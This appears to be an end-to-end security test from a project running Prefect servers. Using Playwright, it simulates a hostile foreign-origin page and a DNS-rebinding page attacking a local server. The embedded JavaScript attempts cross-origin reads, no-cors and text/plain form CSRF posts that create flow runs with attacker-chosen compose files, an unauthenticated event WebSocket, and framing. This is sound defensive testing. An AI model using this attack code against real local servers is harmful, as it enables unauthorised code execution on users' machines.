"""A web page of another origin that attacks a Prefect server on this machine, in a real browser.

python -m tests.e2e.flows.foreign_page URL COMPOSE_FILE      against any server; prints what the page could do
"""

from __future__ import annotations

import json
import sys
import threading
from collections.abc import Iterator
from contextlib import AbstractContextManager, contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from playwright.sync_api import Browser, Error, Page

from tests.support.browser import chromium

REBOUND = "rebind.test"
"""A name of the attacker's, which answers with the address of this machine once its page is loaded."""

ATTACK = """
async ([api, deployment, composeFile]) => {
    const run = name => JSON.stringify({name, parameters: {environment: "attack", compose_files: [composeFile]}});
    const post = (path, body, more = {}) => fetch(api + path, {method: "POST", body, ...more});
    const json = {headers: {"content-type": "application/json"}};
    const seen = {};
    const attempt = async (name, send) => {
        try {
            const answer = await send();
            seen[name] = answer.type === "opaque" ? "sent, no answer" : `${answer.status} ${await answer.text()}`;
        } catch (error) {
            seen[name] = `refused: ${error.message}`;
        }
    };
    await attempt("read", () => fetch(api + "/admin/version"));
    await attempt("read with credentials", () => fetch(api + "/admin/version", {credentials: "include"}));
    await attempt("list", () => post("/deployments/filter", "{}", json));
    try {
        const found = JSON.parse(seen.list.slice(4));
        deployment = found.find(one => one.entrypoint.endsWith("startup")).id;
    } catch {}
    const path = `/deployments/${deployment}/create_flow_run`;
    await attempt("POST of text", () => post(path, run("text"), {mode: "no-cors"}));
    await attempt("POST without a type", () => post(path, new Blob([run("untyped")]), {mode: "no-cors"}));
    await attempt("POST of JSON", () => post(path, run("json"), json));
    await attempt("POST with credentials", () => post(path, run("credentials"), {...json, credentials: "include"}));
    const socket = new WebSocket(api.replace("http", "ws") + "/events/out", ["prefect"]);
    seen.socket = await new Promise(ended => {
        socket.onopen = () => socket.send(JSON.stringify({type: "auth", token: null}));
        socket.onmessage = message => ended(message.data);
        socket.onclose = socket.onerror = () => ended("refused");
    });
    const frames = ["sent", "framed"].map(name => {
        const frame = document.createElement("iframe");
        frame.name = name;
        document.body.append(frame);
        return frame;
    });
    const loaded = frames.map(frame => new Promise(ended => frame.onload = ended));
    frames[1].src = api.replace("/api", "/runs");
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", action: api + path, enctype: "text/plain", target: "sent"});
    const field = document.createElement("input");
    [field.name, field.value] = [run("form").slice(0, -1) + ', "tags": ["', '"]}'];
    form.append(field);
    document.body.append(form);
    form.submit();
    await Promise.all(loaded);
    return seen;
}
"""


class _ForeignPage(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>a page</title><body>")

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def foreign_origin() -> Iterator[str]:
    """The address of a page that is not the server's."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _ForeignPage)
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


def rebound_chromium() -> AbstractContextManager[Browser]:
    """A browser for which a name of the attacker's has come to mean this machine."""
    return chromium(f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1")


def attack(page: Page, url: str, deployment: str, compose_file: str) -> dict[str, str]:
    """What a page of another origin was answered; `url` is the server's, which the attacker knows or guesses."""
    with foreign_origin() as origin:
        page.goto(origin)
        seen: dict[str, str] = page.evaluate(ATTACK, [f"{url}/api", deployment, compose_file])
        framed = next(frame for frame in page.frames if frame.name == "framed")
        seen["frame"] = "refused" if framed.url.startswith("chrome-error:") else f"shows {framed.url}"
    return seen


def attack_rebound(page: Page, port: int, deployment: str, compose_file: str) -> dict[str, str]:
    """What a page is answered whose own name has come to mean this machine, so that the server is of its origin."""
    with suppress(Error):
        page.goto(f"http://{REBOUND}:{port}/")
    seen: dict[str, str] = page.evaluate(ATTACK, [f"http://{REBOUND}:{port}/api", deployment, compose_file])
    return seen


def main(url: str, compose_file: str) -> None:
    """Attack a server and print what came of it."""
    with rebound_chromium() as browser:
        page = browser.new_page()
        nobody = "00000000-0000-0000-0000-000000000000"
        for name, seen in (
            ("another origin", attack(page, url, nobody, compose_file)),
            ("rebound name", attack_rebound(page, int(url.rsplit(":", 1)[1]), nobody, compose_file)),
        ):
            print(f"{name}:\n{json.dumps({key: text[:100] for key, text in seen.items()}, indent=2)}")


if __name__ == "__main__":
    main(*sys.argv[1:])
